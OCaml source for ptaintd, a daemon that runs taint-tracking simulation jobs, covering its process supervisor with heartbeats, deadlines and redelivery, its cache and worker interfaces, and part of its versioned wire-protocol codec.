   worker-side result: mirrors its loop-side job bookkeeping. *)
type done_info = {
  i_id : int;
  i_tag : string;
  i_outcome : string;
  i_cache_hit : bool;
  i_trace : (int * int) option;
  i_t0 : float;
  i_t1 : float;
  i_worker : int;
}

type config = {
  workers : int;
  job_timeout : float option;
  cache_capacity : int;
  beat_interval : float;
  beat_tolerance : float;
  hang_timeout : float;  (* deadline for jobs that carry no timeout *)
  grace : float;  (* slack past the cooperative watchdog *)
  max_deliveries : int;
  backoff_base : float;
  backoff_cap : float;
  log : Log.t option;
  metrics : Metrics.t option;
  close_in_child : unit -> Unix.file_descr list;
      (* parent-side fds a freshly forked worker must not inherit;
         evaluated at each fork, since connections come and go *)
  emit :
    cid:int -> Proto.response -> terminal:bool -> info:done_info option -> unit;
}

let default_config ~emit =
  { workers = 2; job_timeout = None; cache_capacity = 16;
    beat_interval = 0.25; beat_tolerance = 2.0; hang_timeout = 60.0;
    grace = 2.0; max_deliveries = 2; backoff_base = 0.05; backoff_cap = 2.0;
    log = None; metrics = None; close_in_child = (fun () -> []); emit }

type t = {
  cfg : config;
  workers : worker array;
  pending : dispatch Queue.t;
  rng : Ptaint_fi.Fi.Rng.t;
}

let log_src = "ptaintd-sup"

let lwarn t msg fields =
  match t.cfg.log with Some l -> Log.warn l ~src:log_src msg fields | None -> ()

let linfo t msg fields =
  match t.cfg.log with Some l -> Log.info l ~src:log_src msg fields | None -> ()

let mcount t ?labels name =
  match t.cfg.metrics with
  | Some m -> Metrics.inc (Metrics.counter m ?labels name)
  | None -> ()

let write_all fd s =
  let n = String.length s in
  let rec go off =
    if off < n then
      match Unix.write_substring fd s off (n - off) with
      | w -> go (off + w)
      | exception Unix.Unix_error (Unix.EINTR, _, _) -> go off
  in
  go 0

let close_quiet fd = try Unix.close fd with Unix.Unix_error _ -> ()

(* --- spawn / respawn -------------------------------------------------- *)

let spawn t w =
  let down_rd, down_wr = Unix.pipe () in
  let up_rd, up_wr = Unix.pipe () in
  match Unix.fork () with
  | 0 ->
    (* Child: drop every parent-side fd, detach from the parent's
       signal regime, run the worker loop, and leave through _exit so
       no parent buffers flush twice and no at_exit runs here. *)
    Sys.set_signal Sys.sigterm Sys.Signal_default;
    Sys.set_signal Sys.sigint Sys.Signal_default;
    close_quiet down_wr;
    close_quiet up_rd;
    List.iter close_quiet (t.cfg.close_in_child ());
    Array.iter
      (fun other ->
        if other.w_index <> w.w_index && other.w_alive then begin
          close_quiet other.w_down;
          close_quiet other.w_up
        end)
      t.workers;
    let config =
      { Worker.cache_capacity = t.cfg.cache_capacity;
        job_timeout = t.cfg.job_timeout;
        beat_interval = t.cfg.beat_interval }
    in
    (match Worker.main ~config ~rd:down_rd ~wr:up_wr with
     | () -> Unix._exit 0
     | exception _ -> Unix._exit 1)
  | pid ->
    close_quiet down_rd;
    close_quiet up_wr;
    Unix.set_nonblock up_rd;
    w.w_pid <- pid;
    w.w_down <- down_wr;
    w.w_up <- up_rd;
    Buffer.clear w.w_buf;
    w.w_busy <- None;
    w.w_alive <- true;
    w.w_last_beat <- Unix.gettimeofday ();
    linfo t "worker spawned" [ Log.int "worker" w.w_index; Log.int "pid" pid ]

let create (cfg : config) =
  let workers =
    Array.init (max 1 cfg.workers) (fun i ->
        { w_index = i; w_pid = -1; w_down = Unix.stdin; w_up = Unix.stdin;
          w_buf = Buffer.create 4096; w_busy = None; w_last_beat = 0.;
          w_alive = false; w_restarts = 0; w_respawn_at = 0. })
  in
  let seed =
    int_of_float (Unix.gettimeofday () *. 1e6)
    lxor (Unix.getpid () * 0x1e3779b)
  in
  let t =
    { cfg; workers; pending = Queue.create ();
      rng = Ptaint_fi.Fi.Rng.create seed }
  in
  Array.iter (fun w -> spawn t w) t.workers;
  t

let size t = Array.length t.workers
let pids t =
  Array.to_list t.workers
  |> List.filter_map (fun w -> if w.w_alive then Some w.w_pid else None)

let fds t =
  Array.to_list t.workers
  |> List.filter_map (fun w -> if w.w_alive then Some w.w_up else None)

let owns t fd = Array.exists (fun w -> w.w_alive && w.w_up = fd) t.workers

let in_flight t =
  Queue.length t.pending
  + Array.fold_left
      (fun acc w -> if w.w_busy <> None then acc + 1 else acc)
      0 t.workers

(* --- dispatch --------------------------------------------------------- *)

exception Worker_gone of worker

let dispatch t w d =
  d.d_deliveries <- d.d_deliveries + 1;
  d.d_started <- Unix.gettimeofday ();
  d.d_expired <- false;
  w.w_busy <- Some d;
  match write_all w.w_down (Proto.encode_request (Proto.Submit d.d_spec)) with
  | () -> ()
  | exception Unix.Unix_error _ ->
    (* the worker died between our last read and this write; the
       death path below requeues [d] and respawns *)
    raise (Worker_gone w)

let idle_worker t =
  let found = ref None in
  Array.iter
    (fun w -> if !found = None && w.w_alive && w.w_busy = None then found := Some w)
    t.workers;
  !found

(* Synthesize the typed failure the cooperative path would have
   produced for a job the supervisor had to give up on. *)
let synthesize t d =
  let kind, message =
    if d.d_expired then
      let seconds =
        match d.d_timeout with Some s -> s | None -> t.cfg.hang_timeout
      in
      ( Campaign.Timeout { seconds },
        Printf.sprintf
          "ptaintd: worker exceeded the %gs dispatch deadline (wedged or stopped)"
          seconds )
    else
      ( Campaign.Crashed,
        Printf.sprintf
          "ptaintd: worker died running this job (%d deliveries exhausted)"
          d.d_deliveries )
  in
  let ev =
    Proto.Job_failed
      { id = d.d_id; tag = d.d_tag; kind = Campaign.kind_name kind;
        message; policy_label = d.d_label;
        counters = Campaign.failure_counters kind; trace = d.d_trace }
  in
  mcount t ~labels:[ ("kind", Campaign.kind_name kind) ]
    "ptaintd_jobs_synthesized_total";
  lwarn t "job synthesized as failure"
    [ Log.int "id" d.d_id; Log.str "tag" d.d_tag;
      Log.str "kind" (Campaign.kind_name kind);
      Log.int "deliveries" d.d_deliveries ];
  t.cfg.emit ~cid:d.d_cid (Proto.Job_event ev) ~terminal:true
    ~info:
      (Some
         { i_id = d.d_id; i_tag = d.d_tag;
           i_outcome = Campaign.kind_name kind; i_cache_hit = false;
           i_trace = d.d_trace; i_t0 = d.d_started;
           i_t1 = Unix.gettimeofday (); i_worker = (-1) })

(* Feed idle workers from the pending queue.  A worker dying at
   dispatch time requeues the job and loops, so one bad write cannot
   lose work. *)
let rec pump t =
  if not (Queue.is_empty t.pending) then
    match idle_worker t with
    | None -> ()
    | Some w -> (
      let d = Queue.pop t.pending in
      match dispatch t w d with
      | () -> pump t
      | exception Worker_gone w ->
        worker_died t w ~reason:"crash";
        pump t)

(* A worker is gone (crashed, stopped past tolerance, or deadline-
   blown): kill it for certain, reap it, requeue or synthesize its
   job, and schedule the respawn with jittered exponential backoff. *)
and worker_died t w ~reason =
  if w.w_alive then begin
    w.w_alive <- false;
    (try Unix.kill w.w_pid Sys.sigkill with Unix.Unix_error _ -> ());
    (let rec reap () =
       match Unix.waitpid [] w.w_pid with
       | _ -> ()
       | exception Unix.Unix_error (Unix.EINTR, _, _) -> reap ()
       | exception Unix.Unix_error (Unix.ECHILD, _, _) -> ()
     in
     reap ());
    close_quiet w.w_down;
    close_quiet w.w_up;
    w.w_restarts <- w.w_restarts + 1;
    let backoff =
      let exp =
        t.cfg.backoff_base *. (2. ** float_of_int (min 10 (w.w_restarts - 1)))
      in
      let capped = Float.min exp t.cfg.backoff_cap in
      (* full jitter: uniform in [capped/2, capped], so a fleet of
         dying workers never respawns in lockstep *)
      let u =
        float_of_int (Ptaint_fi.Fi.Rng.next t.rng land 0xffff) /. 65535.
      in
      (capped /. 2.) +. (capped /. 2.) *. u
    in
    w.w_respawn_at <- Unix.gettimeofday () +. backoff;
    mcount t ~labels:[ ("reason", reason) ] "ptaintd_worker_restarts_total";
    lwarn t "worker died"
      [ Log.int "worker" w.w_index; Log.int "pid" w.w_pid;
        Log.str "reason" reason; Log.int "restarts" w.w_restarts;
        Log.float "backoff_s" backoff ];
    (match w.w_busy with
     | None -> ()
     | Some d ->
       w.w_busy <- None;
       if d.d_deliveries >= t.cfg.max_deliveries then synthesize t d
       else begin
         mcount t "ptaintd_redeliveries_total";
         lwarn t "job redelivered"
           [ Log.int "id" d.d_id; Log.str "tag" d.d_tag;
             Log.int "delivery" (d.d_deliveries + 1) ];
         Queue.push d t.pending
       end);
    pump t
  end

let submit t ~id ~cid ~label ~trace spec =
  let d =
    { d_id = id; d_cid = cid; d_spec = spec; d_tag = spec.Proto.spec_tag;
      d_label = label; d_trace = trace;
      d_timeout =
        (match spec.Proto.spec_timeout with
         | Some _ as s -> s
         | None -> t.cfg.job_timeout);
      d_deliveries = 0; d_started = Unix.gettimeofday (); d_expired = false }
  in
  Queue.push d t.pending;
  pump t

(* --- worker events ---------------------------------------------------- *)

let rewrite_id d = function
  | Proto.Started _ -> Proto.Started { id = d.d_id }
  | Proto.Finished f -> Proto.Finished { f with id = d.d_id }
  | Proto.Job_failed f -> Proto.Job_failed { f with id = d.d_id }

let handle_event t w resp =
  w.w_last_beat <- Unix.gettimeofday ();
  match resp with
  | Proto.Hello_ok _ | Proto.Pong _ -> ()
  | Proto.Job_event ev -> (
    match w.w_busy with
    | None -> ()  (* stale event from a redelivered job: drop *)
    | Some d -> (
      match ev with
      | Proto.Started _ ->
        t.cfg.emit ~cid:d.d_cid (Proto.Job_event (rewrite_id d ev))
          ~terminal:false ~info:None
      | Proto.Finished _ | Proto.Job_failed _ ->
        w.w_busy <- None;
        w.w_restarts <- 0;  (* a completed job proves the worker healthy *)
        let ev = rewrite_id d ev in
        let cache_hit =
          match ev with Proto.Finished f -> f.cache_hit | _ -> false
        in
        t.cfg.emit ~cid:d.d_cid (Proto.Job_event ev) ~terminal:true
          ~info:
            (Some
               { i_id = d.d_id; i_tag = d.d_tag;
                 i_outcome = Worker.outcome_of_event ev; i_cache_hit = cache_hit;
                 i_trace = d.d_trace; i_t0 = d.d_started;
                 i_t1 = Unix.gettimeofday (); i_worker = w.w_index });
        pump t))
  | _ -> ()

let handle_readable t fd =
  match
    Array.to_list t.workers
    |> List.find_opt (fun w -> w.w_alive && w.w_up = fd)
  with
  | None -> ()
  | Some w -> (
    let chunk = Bytes.create 65536 in
    match Unix.read w.w_up chunk 0 (Bytes.length chunk) with
    | 0 -> worker_died t w ~reason:"crash"
    | n ->
      Buffer.add_subbytes w.w_buf chunk 0 n;
      let rec drain () =
        if w.w_alive then
          match Proto.decode_response (Buffer.contents w.w_buf) with
          | Ok None -> ()
          | Ok (Some (resp, consumed)) ->
            let rest = Buffer.contents w.w_buf in
            Buffer.clear w.w_buf;
            Buffer.add_substring w.w_buf rest consumed
              (String.length rest - consumed);
            handle_event t w resp;
            drain ()
          | Error _ -> worker_died t w ~reason:"crash"
      in
      drain ()
    | exception Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EINTR), _, _)
      -> ()
    | exception Unix.Unix_error _ -> worker_died t w ~reason:"crash")

(* --- periodic maintenance -------------------------------------------- *)

let deadline_of t d =
  d.d_started
  +. (match d.d_timeout with Some s -> s | None -> t.cfg.hang_timeout)
  +. t.cfg.grace

let tick t ~now =
  Array.iter
    (fun w ->
      if (not w.w_alive) && now >= w.w_respawn_at then spawn t w
      else if w.w_alive then
        match w.w_busy with
        | Some d when now > deadline_of t d ->
          d.d_expired <- true;
          worker_died t w ~reason:"deadline"
        | None when now -. w.w_last_beat > t.cfg.beat_tolerance ->
          mcount t "ptaintd_heartbeat_misses_total";
          worker_died t w ~reason:"heartbeat"
        | _ -> ())
    t.workers;
  pump t

(* --- shutdown --------------------------------------------------------- *)

let stop t =
  Array.iter
    (fun w ->
      if w.w_alive then begin
        (try write_all w.w_down (Proto.encode_request Proto.Quit)
         with Unix.Unix_error _ -> ());
        let deadline = Unix.gettimeofday () +. 2.0 in
        let rec wait () =
          match Unix.waitpid [ Unix.WNOHANG ] w.w_pid with
          | 0, _ ->
            if Unix.gettimeofday () < deadline then begin
              ignore (Unix.select [] [] [] 0.02);
              wait ()
            end
            else begin
              (try Unix.kill w.w_pid Sys.sigkill with Unix.Unix_error _ -> ());
              let rec reap () =
                match Unix.waitpid [] w.w_pid with
                | _ -> ()
                | exception Unix.Unix_error (Unix.EINTR, _, _) -> reap ()
                | exception Unix.Unix_error (Unix.ECHILD, _, _) -> ()
              in
              reap ()
            end
          | _ -> ()
          | exception Unix.Unix_error (Unix.EINTR, _, _) -> wait ()
          | exception Unix.Unix_error (Unix.ECHILD, _, _) -> ()
        in
        wait ();
        close_quiet w.w_down;
        close_quiet w.w_up;
        w.w_alive <- false
      end)
    t.workers
