(** Content-addressed cache of built guest images.

    Repeat submissions are ptaintd's common case — the same attack
    program swept over policies, payloads or fault plans.  The cache
    keys on {!Ptaint_campaign.Job.image_key} (program bytes +
    argv/env/taint sources, exactly the inputs that shape the boot
    image) and stores the assembled program together with its
    {!Ptaint_sim.Sim.template}: pre-decoded block tables plus the
    copy-on-write boot snapshot.  A hit boots in O(snapshot restore)
    under the new job's policy/stdin/fuel; a miss builds outside the
    lock so distinct programs compile in parallel.  LRU-evicted at
    [capacity] entries; the victim (program and boot template both)
    is dropped in the same critical section that publishes the
    incoming entry, so at most [capacity] templates are ever
    reachable. *)

type entry = {
  program : Ptaint_asm.Program.t;
  template : Ptaint_sim.Sim.template;
}

type t

val create : ?capacity:int -> unit -> t
(** Thread-safe (shared by all worker domains).  Default capacity 64
    entries. *)

val obtain : t -> Ptaint_campaign.Job.t -> entry * bool
(** The cached entry for the job's image, building (and inserting) on
    a miss; the flag is [true] on a hit.  Raises the toolchain's
    typed errors on malformed sources — call inside the campaign
    engine's failure-classification net. *)

val length : t -> int

val counters : t -> (string * int) list
(** [daemon/cache-hit], [daemon/cache-miss], [daemon/cache-evictions],
    [daemon/cache-entries], [daemon/cache-capacity]. *)
