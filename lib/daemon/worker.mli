(** ptaintd worker process — the child half of the supervision tree.

    {!main} is the entire life of a forked worker: announce readiness
    ([Hello_ok]), then loop reading {!Proto.request} frames from the
    supervisor pipe and answering with {!Proto.response} frames — a
    [Started]/terminal [Job_event] pair per [Submit], a [Pong]
    heartbeat every [beat_interval] while idle.  Jobs run through the
    same containment machinery as the in-process backend
    ({!Ptaint_campaign.Campaign.run_job} behind a per-worker image
    {!Cache}), so the two backends emit byte-identical events for
    identical jobs.

    The worker is deliberately single-threaded: while a job runs it
    cannot heartbeat, and the supervisor covers that window with the
    dispatch deadline rather than the heartbeat. *)

type config = {
  cache_capacity : int;  (** per-worker image cache entries *)
  job_timeout : float option;
      (** default per-job watchdog; a job's own timeout wins *)
  beat_interval : float;  (** idle heartbeat period, seconds *)
}

val default_config : config
(** 16 cache entries, no default timeout, 0.25 s heartbeat. *)

val main : config:config -> rd:Unix.file_descr -> wr:Unix.file_descr -> unit
(** Run the worker loop over the supervisor pipe pair until the pipe
    reaches EOF, a [Quit] frame arrives, or the stream garbles.
    Never raises on a clean shutdown; callers fork and [_exit] around
    it.  Events carry job id 0 — the supervisor rewrites ids, since
    at dispatch depth one it always knows which job a worker runs. *)

(** {1 Shared result serialization}

    Used by both backends so events are identical whichever executed
    the job. *)

val event_of_job_result :
  id:int ->
  job:Ptaint_campaign.Job.t ->
  cache_hit:bool ->
  Ptaint_campaign.Campaign.job_result ->
  Proto.event
(** The wire event for one finished job, with
    {!Ptaint_campaign.Campaign.job_counters} deltas.  A result that
    fails to serialize becomes a typed ["crashed"] failure with the
    canonical [[("jobs",1);("crashed",1)]] counters instead of
    killing the worker. *)

val outcome_class : Ptaint_sim.Sim.outcome -> string
(** Closed, low-cardinality outcome class for the [outcome] label of
    [ptaintd_jobs_total]: ["exited"], ["alert"], ["fault"], ["trap"]
    or ["out-of-fuel"]. *)

val outcome_of_event : Proto.event -> string
(** {!outcome_class}-compatible label recovered from a wire event
    (failures carry their kind; finished jobs are classified from the
    stable {!Ptaint_sim.Sim.pp_outcome} prefix) — how the supervisor
    buckets worker events without the worker-side result at hand. *)
