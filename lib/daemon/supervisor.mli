(** ptaintd supervision tree — process-isolated workers with crash
    containment, preemptive deadlines, and bounded redelivery.

    The supervisor forks [workers] {!Worker} processes and ships jobs
    to them over {!Proto}-framed pipes, one dispatch in flight per
    worker.  It lives entirely on the daemon's event loop: the server
    adds {!fds} to its [select] read set, routes readable fds through
    {!handle_readable}, and calls {!tick} every loop iteration —
    nothing here spawns a thread or takes a lock.

    A worker is declared sick by pipe EOF (crash, SIGKILL), by missed
    idle heartbeats (SIGSTOP, wedged runtime), or by a blown dispatch
    deadline — job timeout plus grace, so the in-worker cooperative
    watchdog always gets the first shot at a typed [Timeout].  Sick
    workers are SIGKILLed, reaped and respawned with jittered
    exponential backoff; their in-flight job is redelivered to a
    surviving worker up to [max_deliveries] total attempts, so an
    innocent job disturbed by a worker death completes normally and
    final counters stay byte-identical to an undisturbed run.  A job
    that exhausts its deliveries is synthesized into the typed
    failure the cooperative path would have produced, with
    {!Ptaint_campaign.Campaign.failure_counters} deltas.

    Metric families maintained (when [metrics] is set):
    [ptaintd_worker_restarts_total{reason}] (crash/heartbeat/deadline),
    [ptaintd_redeliveries_total], [ptaintd_heartbeat_misses_total],
    [ptaintd_jobs_synthesized_total{kind}]. *)

(** Loop-side bookkeeping for one terminal event, mirroring what the
    in-process backend knows about a finished job. *)
type done_info = {
  i_id : int;
  i_tag : string;
  i_outcome : string;  (** outcome class or failure kind *)
  i_cache_hit : bool;
  i_trace : (int * int) option;
  i_t0 : float;  (** dispatch time of the final delivery *)
  i_t1 : float;
  i_worker : int;  (** worker index; -1 for synthesized failures *)
}

type config = {
  workers : int;
  job_timeout : float option;  (** default watchdog, forwarded to workers *)
  cache_capacity : int;  (** per-worker image cache entries *)
  beat_interval : float;  (** worker idle heartbeat period *)
  beat_tolerance : float;  (** idle silence before a heartbeat miss *)
  hang_timeout : float;  (** dispatch deadline for jobs with no timeout *)
  grace : float;  (** slack past the cooperative watchdog *)
  max_deliveries : int;  (** total dispatch attempts per job *)
  backoff_base : float;  (** respawn backoff seed, seconds *)
  backoff_cap : float;
  log : Ptaint_obs.Log.t option;
  metrics : Ptaint_obs.Metrics.t option;
  close_in_child : unit -> Unix.file_descr list;
      (** parent-side fds a fresh fork must close (listen socket, wake
          pipe, live connections); re-evaluated at every fork *)
  emit :
    cid:int -> Proto.response -> terminal:bool -> info:done_info option -> unit;
      (** completion sink; called on the event-loop thread *)
}

val default_config :
  emit:
    (cid:int -> Proto.response -> terminal:bool -> info:done_info option -> unit) ->
  config
(** 2 workers, 16-entry caches, 0.25 s heartbeat / 2 s tolerance,
    60 s hang timeout, 2 s grace, 2 deliveries, 50 ms–2 s backoff. *)

type t

val create : config -> t
(** Fork the initial worker fleet.  Must run before any domain is
    spawned in this process (fork and domains do not mix). *)

val submit :
  t -> id:int -> cid:int -> label:string -> trace:(int * int) option ->
  Proto.job_spec -> unit
(** Queue one admitted job; it is dispatched to an idle worker
    immediately when one exists.  [label] is the canonical policy
    label used for synthesized failures, [id] the server-side job id
    rewritten onto every worker event. *)

val fds : t -> Unix.file_descr list
(** Live workers' up-pipe fds for the server's [select] read set. *)

val owns : t -> Unix.file_descr -> bool

val handle_readable : t -> Unix.file_descr -> unit
(** Drain one readable worker pipe: forward events (ids rewritten),
    update heartbeats, detect EOF/garble deaths. *)

val tick : t -> now:float -> unit
(** Periodic maintenance: blow deadlines, flag heartbeat misses,
    respawn workers whose backoff elapsed, pump the pending queue.
    Call once per event-loop iteration. *)

val size : t -> int
val pids : t -> int list
(** Live worker pids — what a chaos harness SIGKILLs. *)

val in_flight : t -> int
(** Pending plus dispatched jobs. *)

val stop : t -> unit
(** Send every worker [Quit], wait up to 2 s each, SIGKILL stragglers,
    reap everything.  Call after the drain — in-flight jobs should
    already have completed. *)
