(* ptaintd wire protocol: length-prefixed, versioned, typed frames.

   The codec is pure — encode produces a complete frame string, decode
   consumes a prefix of a byte buffer — so it can be unit-tested
   exhaustively without a socket and reused verbatim by the server's
   event loop and the blocking client.  Framing is deliberately dumb:

     offset 0   'P'                 magic
     offset 1   'D'
     offset 2   version (= 3; v1/v2 frames still decode)
     offset 3   frame tag
     offset 4   payload length, u32 big-endian
     offset 8   payload bytes

   Every multi-byte integer on the wire is big-endian.  Strings are
   u32-length-prefixed byte strings; lists are u16-count-prefixed.
   Payloads above [max_payload] are rejected before buffering, so a
   hostile client cannot make the server allocate unboundedly.

   Version 2 appends an optional trace id — (client-seeded 63-bit
   trace id, per-job span id) — to Submit specs and to
   Finished/Job_failed events, as a trailing field that is simply
   absent when no id was attached.  Decoding is version-tolerant: a
   v1 frame (or a v2 frame without the trailing field) yields
   [trace = None], so v1 clients' frames still decode and traceless
   v2 frames are byte-identical to their v1 rendering.

   Version 3 extends the same trailing-optional scheme on Submit
   specs with an idempotency key (so a client that lost its
   connection can resubmit without double-running the job) and a
   completion deadline (so admission can shed jobs it cannot finish
   in time).  Trailing fields cascade: an absent field costs zero
   bytes unless a later field is present, in which case it is written
   as an explicit presence-0 byte — a keyless, deadline-less v3 spec
   therefore stays byte-identical to its v2 rendering, and a
   traceless one to its v1 rendering. *)

let version = 3
let min_version = 1
let header_bytes = 8
let max_payload = 16 * 1024 * 1024

type error =
  | Bad_magic
  | Bad_version of int
  | Bad_tag of int
  | Oversized of int
  | Malformed of string

let error_message = function
  | Bad_magic -> "bad magic (not a ptaintd stream)"
  | Bad_version v -> Printf.sprintf "unsupported protocol version %d" v
  | Bad_tag t -> Printf.sprintf "unknown frame tag 0x%02x" t
  | Oversized n -> Printf.sprintf "oversized payload (%d bytes)" n
  | Malformed m -> "malformed payload: " ^ m

(* --- job description on the wire ------------------------------------

   The wire spec is the serializable subset of {!Ptaint_campaign.Job.t}:
   symbolic payload (source text), config fields that make sense
   remotely, a structural fault plan.  Local-only parts (pre-built
   [Image] payloads, [expect] closures, [on_step] hooks, host
   [fs_init]) never cross the socket. *)

type wire_payload = Wire_asm of string | Wire_c of string

type job_spec = {
  spec_tag : string;
  spec_payload : wire_payload;
  spec_policy : string option;  (** canonical policy label *)
  spec_argv : string list;
  spec_env : (string * string) list;
  spec_stdin : string;
  spec_sessions : string list list;
  spec_max_instructions : int option;
  spec_injections : Ptaint_fi.Fi.injection list;
  spec_timeout : float option;
  spec_trace : (int * int) option;  (** (trace id, span id), v2 frames *)
  spec_idem : string option;  (** idempotency key, v3 frames *)
  spec_deadline : float option;  (** completion SLA in seconds, v3 frames *)
}

let job_spec ?policy ?(argv = []) ?(env = []) ?(stdin = "")
    ?(sessions = []) ?max_instructions ?(injections = []) ?timeout ?trace
    ?idem ?deadline ~tag payload =
  { spec_tag = tag; spec_payload = payload; spec_policy = policy;
    spec_argv = argv; spec_env = env; spec_stdin = stdin;
    spec_sessions = sessions; spec_max_instructions = max_instructions;
    spec_injections = injections; spec_timeout = timeout; spec_trace = trace;
    spec_idem = idem; spec_deadline = deadline }

(* --- frames --------------------------------------------------------- *)

type request =
  | Hello of { client : string }
  | Submit of job_spec
  | Stats
  | Stats_full  (** full telemetry snapshot, Prometheus text *)
  | Ping of string
  | Quit

type event =
  | Started of { id : int }
  | Finished of {
      id : int;
      tag : string;
      outcome : string;  (** rendered {!Ptaint_sim.Sim.pp_outcome} *)
      exit_code : int;
      instructions : int;
      syscalls : int;
      policy_label : string;
      cache_hit : bool;
      counters : (string * int) list;  (** {!Ptaint_campaign.Campaign.job_counters} *)
      stdout : string;
      trace : (int * int) option;
    }
  | Job_failed of {
      id : int;
      tag : string;
      kind : string;  (** {!Ptaint_campaign.Campaign.kind_name} *)
      message : string;
      policy_label : string;
      counters : (string * int) list;
      trace : (int * int) option;
    }

type response =
  | Hello_ok of { server_version : int; banner : string }
  | Accepted of { id : int; tag : string }
  | Rejected of { tag : string; reason : string }
  | Job_event of event
  | Stats_ok of (string * int) list
  | Stats_full_ok of string  (** Prometheus text exposition 0.0.4 *)
  | Pong of string
  | Error_frame of string

(* --- primitive writers ---------------------------------------------- *)

let w_u8 b v = Buffer.add_char b (Char.chr (v land 0xff))

let w_u32 b v =
  w_u8 b (v lsr 24); w_u8 b (v lsr 16); w_u8 b (v lsr 8); w_u8 b v

let w_i64 b v =
  for i = 7 downto 0 do
    w_u8 b (Int64.to_int (Int64.shift_right_logical (Int64.of_int v) (8 * i)))
  done

let w_bool b v = w_u8 b (if v then 1 else 0)

let w_string b s =
  w_u32 b (String.length s);
  Buffer.add_string b s

let w_list b f xs =
  let n = List.length xs in
  if n > 0xffff then invalid_arg "Proto: list too long for the wire";
  w_u8 b (n lsr 8); w_u8 b n;
  List.iter (f b) xs

let w_opt_i64 b = function
  | None -> w_u8 b 0
  | Some v -> w_u8 b 1; w_i64 b v

let w_opt_string b = function
  | None -> w_u8 b 0
  | Some s -> w_u8 b 1; w_string b s

(* floats (timeouts) travel as microseconds in an i64 — exact enough
   for wall-clock budgets and immune to printf round-tripping *)
let w_opt_seconds b = function
  | None -> w_u8 b 0
  | Some s -> w_u8 b 1; w_i64 b (int_of_float (s *. 1e6))

let w_pair b (k, v) = w_string b k; w_string b v
let w_counter b (k, v) = w_string b k; w_i64 b v

let w_fault b =
  let open Ptaint_fi.Fi in
  function
  | Flip_data { addr; bit } -> w_u8 b 0; w_i64 b addr; w_u8 b bit
  | Flip_reg { slot; bit } -> w_u8 b 1; w_i64 b slot; w_u8 b bit
  | Taint_loss { addr; len } -> w_u8 b 2; w_i64 b addr; w_i64 b len
  | Spurious_taint { addr; len } -> w_u8 b 3; w_i64 b addr; w_i64 b len
  | Reg_taint_loss { slot } -> w_u8 b 4; w_i64 b slot
  | Reg_spurious_taint { slot } -> w_u8 b 5; w_i64 b slot
  | Taint_wipe -> w_u8 b 6
  | Stuck_clean { addr; len } -> w_u8 b 7; w_i64 b addr; w_i64 b len

let w_injection b { Ptaint_fi.Fi.at; fault } =
  w_i64 b at;
  w_fault b fault

(* The trailing v2 trace field: absent means None, so traceless
   frames stay byte-identical to their v1 rendering. *)
let w_trace b = function
  | None -> ()
  | Some (tid, span) -> w_u8 b 1; w_i64 b tid; w_i64 b span

(* The v2/v3 trailing-optional cascade on Submit specs.  Later fields
   force explicit presence-0 bytes for earlier absent ones; the
   trailing run of absent fields costs zero bytes, so a spec using no
   v3 feature re-encodes exactly as its v2 (or v1) self. *)
let w_spec_trailer b s =
  let idem = s.spec_idem <> None and deadline = s.spec_deadline <> None in
  (match s.spec_trace with
   | Some (tid, span) -> w_u8 b 1; w_i64 b tid; w_i64 b span
   | None -> if idem || deadline then w_u8 b 0);
  if idem || deadline then w_opt_string b s.spec_idem;
  if deadline then w_opt_seconds b s.spec_deadline

(* --- primitive readers ----------------------------------------------

   Readers work over (string, mutable position); any violation raises
   [Truncated]/[Garbled], mapped to [Malformed] at the frame boundary
   so callers only ever see typed errors. *)

exception Garbled of string

type cursor = { buf : string; mutable pos : int; stop : int }

let need c n what =
  if c.stop - c.pos < n then
    raise (Garbled (Printf.sprintf "truncated %s (%d bytes left, need %d)" what (c.stop - c.pos) n))

let r_u8 c what =
  need c 1 what;
  let v = Char.code c.buf.[c.pos] in
  c.pos <- c.pos + 1;
  v

let r_u32 c what =
  need c 4 what;
  let v =
    (Char.code c.buf.[c.pos] lsl 24)
    lor (Char.code c.buf.[c.pos + 1] lsl 16)
    lor (Char.code c.buf.[c.pos + 2] lsl 8)
    lor Char.code c.buf.[c.pos + 3]
  in
  c.pos <- c.pos + 4;
  v

let r_i64 c what =
  need c 8 what;
  let v = ref 0L in
  for i = 0 to 7 do
    v := Int64.logor (Int64.shift_left !v 8) (Int64.of_int (Char.code c.buf.[c.pos + i]))
  done;
  c.pos <- c.pos + 8;
  Int64.to_int !v

let r_bool c what = r_u8 c what <> 0

let r_string c what =
  let n = r_u32 c what in
  if n > max_payload then raise (Garbled (Printf.sprintf "%s: absurd string length %d" what n));
  need c n what;
  let s = String.sub c.buf c.pos n in
  c.pos <- c.pos + n;
  s

let r_list c f what =
  let hi = r_u8 c what in
  let lo = r_u8 c what in
  (* List.init applies [f] left to right only from OCaml 5; spell the
     order out so the cursor advances element by element regardless *)
  let rec go k acc = if k = 0 then List.rev acc else go (k - 1) (f c :: acc) in
  go ((hi lsl 8) lor lo) []

let r_opt c f what = if r_u8 c what = 0 then None else Some (f c what)

let r_opt_seconds c what =
  match r_opt c r_i64 what with
  | None -> None
  | Some us -> Some (float_of_int us /. 1e6)

let r_pair c = let k = r_string c "pair key" in (k, r_string c "pair value")
let r_counter c = let k = r_string c "counter name" in (k, r_i64 c "counter value")

let r_fault c =
  let open Ptaint_fi.Fi in
  match r_u8 c "fault tag" with
  | 0 -> let addr = r_i64 c "addr" in Flip_data { addr; bit = r_u8 c "bit" }
  | 1 -> let slot = r_i64 c "slot" in Flip_reg { slot; bit = r_u8 c "bit" }
  | 2 -> let addr = r_i64 c "addr" in Taint_loss { addr; len = r_i64 c "len" }
  | 3 -> let addr = r_i64 c "addr" in Spurious_taint { addr; len = r_i64 c "len" }
  | 4 -> Reg_taint_loss { slot = r_i64 c "slot" }
  | 5 -> Reg_spurious_taint { slot = r_i64 c "slot" }
  | 6 -> Taint_wipe
  | 7 -> let addr = r_i64 c "addr" in Stuck_clean { addr; len = r_i64 c "len" }
  | t -> raise (Garbled (Printf.sprintf "unknown fault tag %d" t))

let r_injection c =
  let at = r_i64 c "injection icount" in
  { Ptaint_fi.Fi.at; fault = r_fault c }

(* Trailing optionals: end-of-payload means None. *)
let r_trailing c f what = if c.pos >= c.stop then None else r_opt c f what

let r_trace c =
  r_trailing c
    (fun c what ->
      let tid = r_i64 c what in
      (tid, r_i64 c "span id"))
    "trace id"

let r_trailing_seconds c what =
  match r_trailing c r_i64 what with
  | None -> None
  | Some us -> Some (float_of_int us /. 1e6)

(* --- frame tags ------------------------------------------------------ *)

let tag_hello = 0x01
let tag_submit = 0x02
let tag_stats = 0x03
let tag_ping = 0x04
let tag_quit = 0x05
